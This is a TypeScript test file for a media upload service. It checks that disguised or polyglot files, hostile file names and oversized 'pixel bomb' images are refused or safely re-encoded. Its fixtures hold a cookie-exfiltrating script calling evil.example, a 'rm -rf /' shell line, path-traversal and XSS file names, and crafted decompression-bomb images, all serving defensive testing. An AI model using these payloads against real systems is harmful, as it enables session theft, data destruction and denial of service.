import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { Media } from '@qc/contract';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeMp3, makeMp4, makeWav, makeWebm } from '../../../testing/film-files.ts';
import { buildTestApp, type TestApp } from '../../../testing/test-app.ts';
import type { TestClient } from '../../../testing/test-client.ts';
import { codeOf, listenApp, tusClient, type TusClient } from '../../../testing/tus-client.ts';

let app: TestApp;
let clients: { client: TestClient; tus: TusClient }[];
let taken = 0;

beforeAll(async () => {
  app = await buildTestApp();
  const origin = await listenApp(app);
  clients = [];
  for (const name of ['dana', 'omar', 'noa']) {
    const client = await app.signUp(name);
    clients.push({ client, tus: tusClient(origin, client) });
  }
});
afterAll(() => app.close());

/** Sends a file by the resumable road, each time as another person, so that no limit of calls is met. */
async function send(bytes: Buffer, name: string) {
  const person = clients[taken++ % clients.length];
  if (!person) throw new Error('nobody to upload');
  const { client, tus } = person;
  const created = await tus.create(bytes.length, name);
  if (created.status !== 201) return { status: created.status, code: await codeOf(created), media: null };
  const location = created.headers.get('location') ?? '';
  if (bytes.length > 0) await tus.send(location, 0, bytes);
  const reply = await client.post('/media/from-upload', { upload: location.split('/').at(-1) });
  const media = reply.statusCode === 200 ? Media.parse(reply.json()) : null;
  return { status: reply.statusCode, code: media ? null : reply.json().code, media };
}

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>';
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const NAMES = [
  'a.png',
  'a.jpg',
  'a.svg',
  'a.mp4',
  'a.png.html',
  'a.html\u0000.png',
  '\u202Egnp.exe',
  '../../../etc/passwd.png',
  '..\\..\\a.png',
  'CON.png',
  'nul.mp4',
  '<img src=x onerror=alert(1)>.png',
  `${'a'.repeat(300)}.png`,
  'שלום עולם.png',
  '.htaccess',
];

async function harmlessPictures(): Promise<Buffer[]> {
  const blank = () => sharp({ create: { width: 24, height: 16, channels: 3, background: '#336699' } });
  return Promise.all([blank().png().toBuffer(), blank().jpeg().toBuffer(), blank().gif().toBuffer()]);
}

/** Files that say they are something else, or are two things at once. */
async function hostileFiles(): Promise<Buffer[]> {
  const [png, jpeg, gif] = await harmlessPictures();
  if (!png || !jpeg || !gif) throw new Error('no pictures');
  const film = await makeMp4();
  const signature = png.subarray(0, 8);
  return [
    Buffer.from(SVG),
    Buffer.from(`\uFEFF<?xml version="1.0"?>${SVG}`),
    Buffer.from(`<!-- ${'x'.repeat(5000)} -->${SVG}`),
    Buffer.from(HTML),
    Buffer.from(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>`),
    Buffer.concat([signature, Buffer.from(HTML)]),
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML)]),
    Buffer.concat([Buffer.from('GIF89a'), Buffer.from(`=1;${SCRIPT}`)]),
    Buffer.concat([Buffer.from('RIFF\x10\x00\x00\x00WEBP'), Buffer.from(HTML)]),
    Buffer.concat([png, Buffer.from(HTML)]),
    Buffer.concat([jpeg.subarray(0, 2), comment(HTML), jpeg.subarray(2)]),
    Buffer.concat([gif, Buffer.from(HTML)]),
    Buffer.concat([Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1'), Buffer.from(HTML)]),
    Buffer.concat([Buffer.from('ID3\x04\0\0\0\0\0\0', 'latin1'), Buffer.from(HTML)]),
    Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0xc4]), Buffer.from(HTML)]),
    Buffer.concat([Buffer.from('OggS'), Buffer.from(HTML)]),
    Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3]), Buffer.from(HTML)]),
    Buffer.concat([Buffer.from('RIFF\x10\0\0\0WAVE', 'latin1'), Buffer.from(HTML)]),
    Buffer.from('PK\x03\x04zip'),
    Buffer.from('MZ\x90\0program'),
    Buffer.from('#!/bin/sh\nrm -rf /\n'),
    Buffer.concat([Buffer.from(HTML), film]),
    Buffer.alloc(0),
    Buffer.alloc(5000),
  ];
}

/** A JPEG comment. */
function comment(text: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([head, Buffer.from(text)]);
}

describe('U-01: 150 hostile files', () => {
  test('each is refused or re-encoded, and what is delivered is harmless', async () => {
    const kinds = await hostileFiles();
    const files: { bytes: Buffer; name: string }[] = [];
    for (let i = 0; files.length < 150; i++) {
      const [bytes, name] = [kinds[i % kinds.length], NAMES[Math.floor(i / 3) % NAMES.length]];
      if (bytes && name) files.push({ bytes, name });
    }
    let [refused, kept] = [0, 0];
    for (const { bytes, name } of files) {
      const { status, media } = await send(bytes, name);
      if (!media) {
        expect(status).toBeGreaterThanOrEqual(400);
        expect(status).toBeLessThan(500);
        refused++;
        continue;
      }
      kept++;
      expect(media.type).toBe('image');
      for (const kind of ['image', 'raw']) await expectHarmless(`/demo/${kind}/upload/v1/${media.publicId}`);
      const delivered = await app.inject({ url: `/demo/image/upload/f_png/v1/${media.publicId}` });
      expect(delivered.rawPayload.includes('script')).toBe(false);
    }
    expect(refused + kept).toBe(150);
    expect(kept).toBeGreaterThan(10);
    expectOwnNames();
  }, 180_000);

  test('a true film or sound with a page hidden in it is delivered as a film, locked', async () => {
    const films = [await makeMp4(), await makeWebm(), makeWav(), makeMp3()];
    for (const [i, film] of films.entries()) {
      const { media } = await send(Buffer.concat([film, Buffer.from(HTML)]), `${i}.html`);
      if (!media) continue;
      const { headers } = await expectHarmless(`/demo/video/upload/v1/${media.publicId}`);
      expect(String(headers['content-type'])).toMatch(/^(video|audio)\//);
      const wrong = await app.inject({ url: `/demo/video/upload/v1/${media.publicId}.html` });
      expect(wrong.statusCode).toBe(400);
      const raw = await expectHarmless(`/demo/raw/upload/v1/${media.publicId}`);
      expect(raw.headers['content-disposition']).toMatch(/^attachment; /);
    }
  });

  async function expectHarmless(url: string) {
    const reply = await app.inject({ url });
    expect(reply.statusCode).toBe(200);
    expect(reply.headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; base-uri 'none'; frame-ancestors 'self'; sandbox",
    });
    expect(String(reply.headers['content-type'])).toMatch(/^(image\/(webp|png)|video\/|audio\/)/);
    return reply;
  }

  function expectOwnNames(): void {
    const stored = readdirSync(join(app.folder, 'files'), { recursive: true, withFileTypes: true });
    for (const { name } of stored.filter((entry) => entry.isFile())) expect(name).toMatch(/^[0-9a-f]{64}$/);
  }
});

describe('U-02: pictures built to cost much', () => {
  /** A PNG whose header claims what it does not have. */
  function claimingPng(width: number, height: number, depth = 8): Buffer {
    const chunk = (type: string, data: Buffer) => {
      const body = Buffer.concat([Buffer.from(type), data]);
      const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
      length.writeUInt32BE(data.length);
      sum.writeUInt32BE(crc32(body));
      return Buffer.concat([length, body, sum]);
    };
    const header = Buffer.alloc(13);
    header.writeUInt32BE(width, 0);
    header.writeUInt32BE(height, 4);
    header.set([depth, 2, 0, 0, 0], 8);
    const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    const data = chunk('IDAT', deflateSync(Buffer.alloc(1_000_000)));
    return Buffer.concat([signature, chunk('IHDR', header), data, chunk('IEND', Buffer.alloc(0))]);
  }

  /** A GIF of so many frames of one pixel. */
  function longGif(frames: number): Buffer {
    const head = Buffer.from('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
    const frame = Buffer.from('!\xf9\x04\0\x0a\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0', 'latin1');
    return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from(';')]);
  }

  test('are refused, without taking memory', async () => {
    const blank = (width: number, height: number) =>
      sharp({ create: { width, height, channels: 3, background: '#336699' } });
    const cases: [string, Buffer, string][] = [
      ['1921×1080', await blank(1921, 1080).png().toBuffer(), 'imageDimensions'],
      ['1920×1081', await blank(1920, 1081).jpeg().toBuffer(), 'imageDimensions'],
      ['65,535 squared', claimingPng(65_535, 65_535), 'imageDimensions'],
      ['16 bit, 30,000 squared', claimingPng(30_000, 30_000, 16), 'imageDimensions'],
      ['16 bit, too few pixels', claimingPng(1920, 1080, 16), 'badImage'],
      ['10,000 frames', longGif(10_000), 'badImage'],
      ['TIFF', await blank(10, 10).tiff().toBuffer(), 'unsupportedMedia'],
    ];
    const before = process.memoryUsage().rss;
    for (const [name, bytes, code] of cases) {
      expect([name, (await send(bytes, 'a.png')).code]).toEqual([name, code]);
    }
    await Promise.all(cases.flatMap(([, bytes]) => [send(bytes, 'a.png'), send(bytes, 'b.png')]));
    expect(process.memoryUsage().rss - before).toBeLessThan(150 * 1024 * 1024);
  }, 30_000);
});
